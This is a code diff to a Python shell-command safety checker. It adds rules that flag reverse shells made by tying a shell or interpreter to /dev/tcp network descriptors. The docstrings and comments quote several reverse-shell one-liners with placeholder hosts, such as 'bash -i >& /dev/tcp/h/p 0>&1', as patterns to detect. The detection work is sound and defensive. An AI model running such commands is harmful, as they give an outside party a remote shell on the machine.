@@ -26,6 +26,7 @@ from __future__ import annotations
 
 import binascii
 import functools
+import itertools
 import posixpath
 import re
 import shlex
@@ -1373,6 +1374,104 @@ def _xargs_input(upstream: list[Invocation], program: str, home: str) -> str | N
     return " ".join(f"{start.rstrip('/')}/*" for start in starts or ["."])
 
 
+def _ties_shell(invocation: Invocation, fd: str, target: str) -> bool:
+    """Whether a redirection to ``/dev/tcp/HOST/PORT`` ties a shell to that connection: a shell given it
+    (``bash -i >& /dev/tcp/h/p 0>&1``, ``sh -i 5<> /dev/tcp/h/p 0<&5``) or the running shell's own input
+    or output (``exec 0<>/dev/tcp/h/p``, ``exec >&/dev/tcp/h/p``). ``exec 3<>/dev/tcp/h/p`` only opens a
+    descriptor (a probe, or a transfer by ``echo >&3`` / ``cat <&3``); what then reads it as code is
+    :class:`_Sockets`' to judge, and ``</dev/tcp/h/p``, ``echo > /dev/tcp/h/p`` are probes."""
+    if invocation.name in SHELLS:
+        return not (_LOCAL_PROBE.match(target) and not _interactive(invocation))
+    return invocation.name == "exec" and fd in ("", "0", "1", "2")
+
+
+class _Sockets:
+    """The descriptors a script opens to network peers (``exec 5<>/dev/tcp/h/p``), followed in script
+    order, and what is tied to them: a shell or interpreter reading or writing one (``sh <&196
+    >&196``), a command named at run time writing to one (``$line 2>&5 >&5``), or code run after a
+    command read from one (``cat <&5 | while read l; do $l; done``, ``read -r c <&5; eval "$c"``)."""
+
+    def __init__(self) -> None:
+        self.opened: dict[str, str] = {}
+        self.local: set[str] = set()
+        self.read_from = ""
+
+    def judge(self, stages: list[Invocation]) -> Verdict | None:
+        reader = ""
+        for index, invocation in enumerate(stages):
+            fds = self._socket_fds(invocation)
+            name = invocation.name
+            if name == "exec":
+                for redirect in invocation.command.redirects:
+                    target = invocation.command.static(redirect.target) or ""
+                    if redirect.fd not in ("", "0", "1", "2") and _NET_DEVICE.match(target):
+                        self.opened[redirect.fd] = target
+                    elif redirect.fd not in ("", "0", "1", "2"):
+                        self.local.add(redirect.fd)  # exec 3<input.txt: a file, whatever reads it
+                    elif redirect.fd in ("", "0", "1", "2") and fds:
+                        # exec 0<&3 1>&3: the running shell's own input and output become the connection
+                        why = f"ties the shell's own input or output to {self.opened[fds[0]]}"
+                        return _verdict(BACKDOOR, invocation, why)
+                continue
+            computed = invocation.dynamic or name.startswith("$") or name in ("eval", "source", ".")
+            if fds and (name in SHELLS or _INTERPRETERS.match(name) or computed):
+                peer = self.opened[fds[0]]
+                what = name or "a computed command"
+                why = f"connects {what} to the network connection {peer} (descriptor {fds[0]})"
+                return _verdict(BACKDOOR, invocation, why)
+            inherited = self._inherited_input(invocation)
+            if inherited and (_runs_stdin(invocation) or (name in SHELLS and _interactive(invocation))):
+                # sh <&196 >&196 after `exec 196<>/dev/tcp/h/p` in an earlier call of a kept shell
+                why = (
+                    f"runs {name} on descriptor {inherited}, opened before this command (a kept connection?)"
+                )
+                return _verdict(UNJUDGED_SCRIPT, invocation, why)
+            if computed and self.read_from:
+                why = f"runs a command read from the network connection {self.read_from}"
+                return _verdict(BACKDOOR, invocation, why)
+            if index > 0 and reader and _runs_stdin(invocation):
+                return _verdict(BACKDOOR, invocation, f"runs what arrives from {reader} in {name}")
+            read = next((fd for fd in fds if self._reads(invocation, fd)), None)
+            if read is not None:
+                reader = self.read_from = self.opened[read]
+        return None
+
+    def _socket_fds(self, invocation: Invocation) -> list[str]:
+        """The open network descriptors ``invocation`` reads or writes (``<&5``, ``>&5``, ``read -u 5``)."""
+        if not self.opened:
+            return []
+        redirects = invocation.command.redirects
+        fds = [r.target for r in redirects if r.op in ("<&", ">&") and r.target in self.opened]
+        if invocation.name == "read":
+            values = _values(invocation)
+            fds += [v for flag, v in itertools.pairwise(values) if flag == "-u" and v in self.opened]
+        return fds
+
+    def _inherited_input(self, invocation: Invocation) -> str:
+        """A descriptor above 2 that ``invocation`` reads its input from and this command did not open."""
+        own = {r.fd for r in invocation.command.redirects if r.op in ("<", "<>", ">", ">>")}
+        return next(
+            (
+                r.target
+                for r in invocation.command.redirects
+                if r.op == "<&"
+                and r.fd in ("", "0")
+                and r.target.isdigit()
+                and int(r.target) > 2
+                and r.target not in self.opened
+                and r.target not in self.local
+                and r.target not in own
+            ),
+            "",
+        )
+
+    @staticmethod
+    def _reads(invocation: Invocation, fd: str) -> bool:
+        return invocation.name == "read" or any(
+            r.op == "<&" and r.target == fd and r.fd in ("", "0") for r in invocation.command.redirects
+        )
+
+
 def _check_redirects(invocation: Invocation, home: str) -> Verdict | None:
     """Where a command's output goes: a block device, a system file, a network socket."""
     command = invocation.command
@@ -1388,13 +1487,7 @@ def _check_redirects(invocation: Invocation, home: str) -> Verdict | None:
                         why = f"pipes a download from {invocation.name} into {runner.name}"
                         return _verdict(REMOTE_CODE, invocation, why)
             continue
-        if (
-            _NET_DEVICE.match(target)
-            and (invocation.name in SHELLS or invocation.name in ("exec", ""))
-            and not (
-                _LOCAL_PROBE.match(target) and not (invocation.name in SHELLS and _interactive(invocation))
-            )
-        ):
+        if _NET_DEVICE.match(target) and _ties_shell(invocation, redirect.fd, target):
             return _verdict(BACKDOOR, invocation, f"connects a shell to the network through {target}")
         if redirect.op in ("<", "<<", "<<<", "<&"):
             continue
@@ -1643,8 +1736,12 @@ def _check_script(script: Script, home: str, policy: Policy) -> Verdict | None:
         if verdict is not None:
             return verdict
     judged: set[Invocation] = set()
+    sockets = _Sockets()
     with collecting_nested() as nested:
         for stages in walk(script):
+            verdict = findings.blocks(sockets.judge(stages), "network descriptor rule")
+            if verdict is not None:
+                return verdict
             for invocation in stages:
                 spend()
                 if invocation in judged:
